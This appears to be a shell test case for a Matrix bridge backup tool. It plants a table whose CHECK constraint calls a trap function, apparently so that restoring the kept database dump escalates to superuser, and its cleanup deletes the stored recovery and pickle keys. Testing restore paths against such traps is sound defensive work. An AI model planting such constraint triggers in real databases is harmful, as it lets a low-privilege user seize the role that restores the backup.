# A table of the bridge's database has a CHECK that resets the role which the kept dump is loaded as.
fear=superuser
strike() {
  {
    trap_function public mautrix_signal
    echo 'CREATE TABLE public.trapped (x integer CHECK (public.gain())); INSERT INTO public.trapped VALUES (1);'
  } | sql_as mautrix_signal mautrix_signal
}
clean() {
  sql mautrix_signal <<< 'DROP TABLE IF EXISTS public.trapped; DROP FUNCTION IF EXISTS public.gain();' 2> /dev/null || true
  rm -f /var/lib/bridgekeeper/kept/recovery_key /var/lib/bridgekeeper/kept/*.dump /var/lib/bridgekeeper/kept/pickle_key
}
